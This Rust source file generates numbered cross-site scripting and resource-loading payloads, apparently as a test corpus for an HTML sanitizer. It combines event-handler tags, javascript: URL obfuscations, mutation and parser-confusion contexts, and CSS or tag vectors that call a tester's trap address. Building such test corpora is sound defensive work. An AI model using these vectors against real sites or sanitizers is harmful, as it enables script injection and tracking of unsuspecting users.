//! Hostile HTML of the kinds that are publicly known: vectors × contexts × spellings, made, not copied.

/// What a payload tries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Aim {
    /// To run a script, which writes its number into the console.
    Run,
    /// To ask the trap for its number.
    CallHome,
}

/// One payload.
#[derive(Debug, Clone)]
pub struct Payload {
    /// What it tries.
    pub aim: Aim,
    /// The HTML.
    pub html: String,
}

/// The number that payload 0 writes into the console; the others follow.
pub const FIRST_NUMBER: u64 = 7_700_000;

/// Stands in templates for the script.
const RUN: &str = "%RUN%";
/// Stands in templates for the trap's address.
const TRAP: &str = "%TRAP%";

/// Tags with a handler that browsers call, or that is called when somebody does something with it.
const HANDLERS: [&str; 40] = [
    "<img src=x onerror=%RUN%>",
    "<svg onload=%RUN%></svg>",
    "<body onload=%RUN%>",
    "<body onpageshow=%RUN%>",
    "<input autofocus onfocus=%RUN%>",
    "<textarea autofocus onfocus=%RUN%></textarea>",
    "<select autofocus onfocus=%RUN%></select>",
    "<details open ontoggle=%RUN%>x</details>",
    "<video src=x onerror=%RUN%></video>",
    "<video><source src=x onerror=%RUN%></video>",
    "<audio src=x onerror=%RUN%></audio>",
    "<marquee onstart=%RUN%>x</marquee>",
    "<marquee loop=1 width=0 onfinish=%RUN%>x</marquee>",
    "<style onload=%RUN%>p{}</style>",
    "<link rel=stylesheet href=data:text/css, onload=%RUN%>",
    "<iframe onload=%RUN%></iframe>",
    "<object data=x onerror=%RUN%></object>",
    "<embed src=x onerror=%RUN%>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=%RUN%>",
    "<svg><animate onbegin=%RUN% attributeName=x dur=1s></svg>",
    "<svg><set onbegin=%RUN% attributeName=x to=1></svg>",
    "<svg><image href=x onerror=%RUN% /></svg>",
    "<svg><g onload=%RUN%></g></svg>",
    "<image src=x onerror=%RUN%>",
    "<input type=image src=x onerror=%RUN%>",
    "<div onmouseover=%RUN%>x</div>",
    "<a onclick=%RUN%>x</a>",
    "<a href=# onpointerenter=%RUN%>x</a>",
    "<button onclick=%RUN%>x</button>",
    "<p onwheel=%RUN%>x</p>",
    "<div contenteditable onblur=%RUN% oninput=%RUN%>x</div>",
    "<table onkeydown=%RUN%><tr><td>x</table>",
    "<table><td background=x onauxclick=%RUN%>x</table>",
    "<form oninvalid=%RUN% onsubmit=%RUN%><input></form>",
    "<label ondblclick=%RUN%>x</label>",
    "<font onbeforecopy=%RUN% oncopy=%RUN%>x</font>",
    "<div onanimationstart=%RUN% style=animation-name:x>x</div>",
    "<div ontransitionend=%RUN%>x</div>",
    "<x-y onfocus=%RUN% tabindex=1>x</x-y>",
    "<math><mi onclick=%RUN%>x</mi></math>",
];

/// Scripts without a handler.
const SCRIPTS: [&str; 14] = [
    "<script>%RUN%</script>",
    "<SCRIPT>%RUN%</SCRIPT >",
    "<script\n>%RUN%</script\t>",
    "<script/x>%RUN%</script>",
    "<script src=data:,%RUN%></script>",
    "<script src='data:text/javascript;charset=utf-8,%RUN%'></script>",
    "<script type=module>%RUN%</script>",
    "<svg><script>%RUN%</script></svg>",
    "<svg><script href=data:,%RUN% /></svg>",
    "<iframe srcdoc='<script>%RUN%</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=%RUN%&gt;'></iframe>",
    "<iframe src='data:text/html,<script>%RUN%</script>'></iframe>",
    "<object data='data:text/html,<script>%RUN%</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><script>%RUN%</script></svg>'>",
];

/// Places for an address that runs a script.
const ADDRESSED: [&str; 12] = [
    "<a href=\"%URL%\">x</a>",
    "<a href='%URL%' target=_self>x</a>",
    "<iframe src=\"%URL%\"></iframe>",
    "<form action=\"%URL%\"><button>x</button></form>",
    "<form><button formaction=\"%URL%\">x</button></form>",
    "<form><input type=submit formaction=\"%URL%\"></form>",
    "<map name=m><area shape=rect coords=0,0,9,9 href=\"%URL%\"></map><img usemap=#m src=x>",
    "<svg><a xlink:href=\"%URL%\"><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"%URL%\" /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=href to=\"%URL%\" /><text y=9>x</text></a></svg>",
    "<math><mtext href=\"%URL%\">x</mtext></math>",
    "<object data=\"%URL%\"></object>",
];

/// How such an address is spelled.
const SPELLINGS: [&str; 12] = [
    "javascript:%RUN%",
    "JaVaScRiPt:%RUN%",
    "  javascript:%RUN%",
    "java\tscript:%RUN%",
    "java\nscript:%RUN%",
    "\u{1}javascript:%RUN%",
    "&#106;avascript:%RUN%",
    "&#x6a&#x61&#x76&#x61script:%RUN%",
    "javascript&colon;%RUN%",
    "java&Tab;script&colon;%RUN%",
    "javascript://%0a%RUN%",
    "javascript:void 0;%RUN%//http://one.example",
];

/// Where a vector hides: what surrounds it, with `%V%` for itself.
const CONTEXTS: [&str; 30] = [
    "<b>%V%</b>",
    "\"><b>%V%",
    "'>%V%",
    "<a title=\"</a>%V%\">x</a>%V%",
    "<!-- x -->%V%<!-- y",
    "<!--><!-- -->%V%",
    "<!--!> --!>%V%",
    "<![CDATA[x]]>%V%",
    "<noscript><p title=\"</noscript>%V%\"></noscript>",
    "<title>x</title>%V%",
    "<title><a title=\"</title>%V%\"></title>",
    "<textarea>x</textarea>%V%",
    "<style><a title=\"</style>%V%\"></style>",
    "<xmp><a title=\"</xmp>%V%\"></xmp>",
    "<iframe><a title=\"</iframe>%V%\"></iframe>",
    "<noembed><a title=\"</noembed>%V%\"></noembed>",
    "<template>x</template>%V%",
    "<template><style></template>%V%</style>%V%",
    "<select><option>x</select>%V%",
    "<select><style></select>%V%",
    "<table><tr>%V%<td>x</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;%E%\"></table></mtext></math>%V%",
    "<svg></p><style><a id=\"</style>%V%\"></svg>",
    "<math><annotation-xml encoding=\"text/html\">%V%</annotation-xml></math>",
    "<svg><foreignObject>%V%</foreignObject></svg>",
    "<svg><desc><![CDATA[</desc>%V%]]></svg>%V%",
    "<form><math><mtext></form><form><mglyph><style></math>%V%",
    "<p><a><p>%V%</a>",
    "<unknown-tag onclick=x>%V%",
    "<plaintext hidden></plaintext><b \0>%V%",
];

/// Vectors for the contexts.
const CORE: [&str; 5] = [
    "<img src=x onerror=%RUN%>",
    "<IMG/SRC=x/OnErRoR=%RUN%>",
    "<svg/onload=%RUN%>",
    "<img src=x\u{c}onerror=\"%ENTITIES%\">",
    "<iframe src='javascript:%RUN%'></iframe>",
];

/// What asks another machine as soon as it is shown.
const CALLS: [&str; 56] = [
    "<img src=%TRAP%>",
    "<IMG SRC='%TRAP%'>",
    "<img srcset='%TRAP% 1x'>",
    "<picture><source srcset='%TRAP%'><img src=x></picture>",
    "<image src=%TRAP%>",
    "<input type=image src=%TRAP%>",
    "<body background=%TRAP%>",
    "<table background=%TRAP%><tr><td>x</table>",
    "<table><td background=%TRAP%>x</table>",
    "<video poster=%TRAP%></video>",
    "<video src=%TRAP%></video>",
    "<video><source src=%TRAP%></video>",
    "<video><track default src=%TRAP%></video>",
    "<audio src=%TRAP%></audio>",
    "<iframe src=%TRAP%></iframe>",
    "<iframe srcdoc='<img src=%TRAP%>'></iframe>",
    "<object data=%TRAP%></object>",
    "<embed src=%TRAP%>",
    "<frameset><frame src=%TRAP%></frameset>",
    "<link rel=stylesheet href=%TRAP%>",
    "<link rel='alternate stylesheet prefetch' href=%TRAP%>",
    "<link rel=preload as=image href=%TRAP%>",
    "<link rel=modulepreload href=%TRAP%>",
    "<link rel=prefetch href=%TRAP%>",
    "<link rel=icon href=%TRAP%>",
    "<link rel=manifest href=%TRAP%>",
    "<script src=%TRAP%></script>",
    "<base href=%TRAP%><img src=x.png>",
    "<meta http-equiv=refresh content='0;url=%TRAP%'>",
    "<meta http-equiv=Link content='<%TRAP%>; rel=preload; as=image'>",
    "<style>@import '%TRAP%';</style>",
    "<style>@import url(%TRAP%);</style>",
    "<style>@\\69mport url(%TRAP%);</style>",
    "<style>p{background:url(%TRAP%)}</style><p>x</p>",
    "<style>p{background:\\75rl(%TRAP%)}</style><p>x</p>",
    "<style>p{--x:url(%TRAP%);background:var(--x)}</style><p>x</p>",
    "<style>p{background:image-set('%TRAP%' 1x)}</style><p>x</p>",
    "<style>@font-face{font-family:f;src:url(%TRAP%)}p{font-family:f}</style><p>x</p>",
    "<style>li{list-style-image:url(%TRAP%)}</style><ul><li>x</ul>",
    "<style>p::before{content:url(%TRAP%)}</style><p>x</p>",
    "<style>p{border-image:url(%TRAP%)}</style><p>x</p>",
    "<style>p{mask-image:url(%TRAP%)}</style><p>x</p>",
    "<style>p{filter:url(%TRAP%#f)}</style><p>x</p>",
    "<style></style><p style='background:url(%TRAP%)'>x</p>",
    "<p style='background:&#117;rl(%TRAP%)'>x</p>",
    "<p style=\"background:url('%TRAP%\">x</p>",
    "<p style='background:URL( %TRAP% )'>x</p>",
    "<p style='background:u/**/rl(%TRAP%);background-image:url(%TRAP%)'>x</p>",
    "<p style='cursor:url(%TRAP%),auto;list-style:url(%TRAP%);display:list-item'>x</p>",
    "<p style='behavior:url(%TRAP%);-moz-binding:url(%TRAP%);width:expression(1);content:url(%TRAP%)'>x</p>",
    "<svg><image href=%TRAP% /></svg>",
    "<svg><image xlink:href=%TRAP% /></svg>",
    "<svg><use href='%TRAP%#x' /></svg>",
    "<svg><filter id=f><feImage href=%TRAP% /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "<svg><image><set attributeName=href to=%TRAP% /></image></svg>",
    "<noscript><img src=%TRAP%></noscript>",
];

fn entities(text: &str) -> String {
    text.chars().map(|it| format!("&#x{:x};", u32::from(it))).collect()
}

/// All payloads; those that call home ask under this address.
pub fn all(trap: &str) -> Vec<Payload> {
    let mut templates: Vec<(Aim, String)> = Vec::new();
    let mut add = |aim, template: String| templates.push((aim, template));
    for (place, handler) in HANDLERS.into_iter().enumerate() {
        add(Aim::Run, handler.to_owned());
        // Each in another spelling too: quoted, as entities, in capitals with slashes, with what does not belong there.
        add(
            Aim::Run,
            match place % 4 {
                0 => handler.replace(RUN, "\"%ENTITIES%\""),
                1 => handler.replace(RUN, "'%RUN%'").replace(" on", "\non"),
                2 => handler.replace(" on", " x=\"'\" ON").replacen(' ', "/", 1),
                _ => handler.replace(" on", "\ton").replace("on", "oN"),
            },
        );
    }
    for script in SCRIPTS {
        add(Aim::Run, script.to_owned());
    }
    for (place, holder) in ADDRESSED.into_iter().enumerate() {
        for (number, spelling) in SPELLINGS.into_iter().enumerate() {
            // Every holder with the plain spelling, every spelling in a link, and a part of the rest.
            if number == 0 || place == 0 || (place + number) % 3 == 0 {
                add(Aim::Run, holder.replace("%URL%", spelling));
            }
        }
    }
    for context in CONTEXTS {
        for vector in CORE {
            let context = context.replace("%E%", &vector.replace('<', "&lt;").replace('>', "&gt;"));
            add(Aim::Run, context.replace("%V%", vector));
        }
    }
    for call in CALLS {
        add(Aim::CallHome, call.to_owned());
    }
    let numbered = templates.into_iter().zip(FIRST_NUMBER..);
    numbered
        .map(|((aim, template), number)| {
            let run = format!("console.log({number})");
            let html = template.replace("%ENTITIES%", &entities(&run)).replace(RUN, &run);
            Payload { aim, html: html.replace(TRAP, &format!("{trap}{number}")) }
        })
        .collect()
}
